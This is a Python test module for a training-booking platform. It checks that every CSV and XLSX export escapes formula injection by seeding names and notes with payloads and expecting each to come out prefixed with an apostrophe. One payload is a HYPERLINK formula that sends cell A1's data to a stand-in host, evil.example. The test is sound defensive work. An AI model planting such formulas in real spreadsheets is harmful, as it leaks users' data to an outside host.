"""No export hands a spreadsheet a formula someone typed.

Every CSV and XLSX export (staff, trainer; the table below names each one) is fetched after the
people, organisations and notes in it were given names a spreadsheet would run: a cell starting
with =, +, -, @, a tab or a carriage return. Every such cell must come out with a leading
apostrophe (OWASP's advice), and the name must be in the export, so the check is not empty.
"""

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from bbtraining.extensions import db
from tests.security.world import build_world

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1", "-1", "@SUM(1)", "\tx", "\rx"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _at(pattern: str, name: str = ""):
    return lambda w: pattern.format(getattr(w, name).id if name else "")


SESSION, EDITION = "/attendance/sessions/{}/attendance", "/attendance/editions/{}/attendance"
ENROLLMENTS = "/admin/editions/{}/enrollments.csv"
# (who fetches, url) for every spreadsheet export of the platform.
EXPORTS = {
    "attendance session csv": ("trainer", _at(SESSION + ".csv", "att_session")),
    "attendance session xlsx": ("trainer", _at(SESSION + ".xlsx", "att_session")),
    "attendance inhouse session csv": ("admin", _at(SESSION + ".csv", "booking_session")),
    "attendance edition csv": ("trainer", _at(EDITION + ".csv", "done_edition")),
    "attendance edition xlsx": ("trainer", _at(EDITION + ".xlsx", "done_edition")),
    "enrollments csv": ("admin", _at(ENROLLMENTS, "edition")),
    "enrollments with waiting list csv": ("admin", _at(ENROLLMENTS, "full_edition2")),
    "inhouse pipeline csv": ("admin", _at("/admin/inhouse/export.csv")),
    "receivables csv": ("admin", _at("/admin/receivables.csv")),
    "receivables xlsx": ("admin", _at("/admin/receivables.xlsx")),
    "advice bundle entries csv": ("client", _at("/advies/strippenkaarten/{}/regels.csv", "bundle")),
    "advice bundle entries xlsx": (
        "client",
        _at("/advies/strippenkaarten/{}/regels.xlsx", "bundle"),
    ),
    "advice hours per advisor csv": ("admin", _at("/admin/advies/uren-per-adviseur.csv")),
}


def test_every_export_is_listed(app):
    """A new export must join EXPORTS: every rule ending in .csv or .xlsx is in it."""
    listed = {url.split("/")[-1] for _who, build in EXPORTS.values() for url in [build_stub(build)]}
    # A rule for both formats ("x.<any(csv, xlsx):fmt>") counts as its two URLs.
    rules = {
        name for r in app.url_map.iter_rules() for name in _format_variants(r.rule.split("/")[-1])
    }
    spreadsheet_rules = {r for r in rules if r.endswith((".csv", ".xlsx"))}
    assert spreadsheet_rules <= listed, spreadsheet_rules - listed


def _format_variants(name: str) -> list[str]:
    stem, sep, rest = name.partition(".<any(")
    if not sep:
        return [name]
    return [f"{stem}.{fmt.strip()}" for fmt in rest.split(")")[0].split(",")]


def build_stub(build) -> str:
    class Stub:
        def __getattr__(self, name):
            return self

        id = 1

    return build(Stub())


def _name_everything(w, payload: str) -> None:
    """What people type that lands in an export: their names, their organisation's, notes."""
    from bbtraining.auth.models import Organisation, User
    from bbtraining.bookings.attendance.models import AttendanceGuest, AttendanceRecord, Completion
    from bbtraining.bookings.billing.invoices import Invoice
    from bbtraining.bookings.enrollment.models import Enrollment, WaitlistEntry
    from bbtraining.bookings.inhouse.models import InhouseBooking, InhouseParticipant

    for model, values in (
        (User, {"name": payload}),
        (Organisation, {"name": payload}),
        (Enrollment, {"billing_organisation": payload, "reference": payload}),
        (WaitlistEntry, {"note": payload}),
        (InhouseBooking, {"contact_name": payload, "po_number": payload}),
        (InhouseParticipant, {"name": payload}),
        (AttendanceGuest, {"name": payload}),
        (AttendanceRecord, {"name": payload}),
        (Completion, {"name": payload}),
        (Invoice, {"buyer_name": payload}),
    ):
        db.session.execute(update(model).values(**values))
    db.session.commit()
    assert db.session.scalars(select(User.name)).first() == payload


def _cells(response, url: str) -> list:
    if url.endswith(".xlsx"):
        sheet = load_workbook(io.BytesIO(response.data)).active
        return [cell for row in sheet.iter_rows() for cell in row]
    text = response.data.decode("utf-8-sig")
    return [
        value for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for value in row
    ]


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_no_export_carries_a_formula(app, client, login, payload):
    w = build_world()
    _name_everything(w, payload)
    problems = []
    signed_in = None
    # Grouped by who fetches: one login each (the login form's rate limit counts them).
    for label, (who, build) in sorted(EXPORTS.items(), key=lambda item: item[1][0]):
        if who != signed_in:
            client.delete_cookie("session")
            login(w.user(who))
            signed_in = who
        url = build(w)
        response = client.get(url)
        assert response.status_code == 200, (label, response.status_code)
        seen = False
        for cell in _cells(response, url):
            value = cell.value if hasattr(cell, "value") else cell
            if not isinstance(value, str):
                continue  # numbers and dates are real numbers and dates
            if hasattr(cell, "data_type") and cell.data_type == "f":
                problems.append(f"{label}: formula cell {value!r}")
            if value.startswith(FORMULA_START):
                problems.append(f"{label}: cell {value!r}")
            # XML keeps no carriage return: an XLSX gives "\rx" back as "\nx".
            seen = seen or value in ("'" + payload, "'" + payload.replace("\r", "\n"))
        if not seen:
            problems.append(f"{label}: {payload!r} not found; does the test name what it exports?")
    assert not problems, "\n".join(problems)
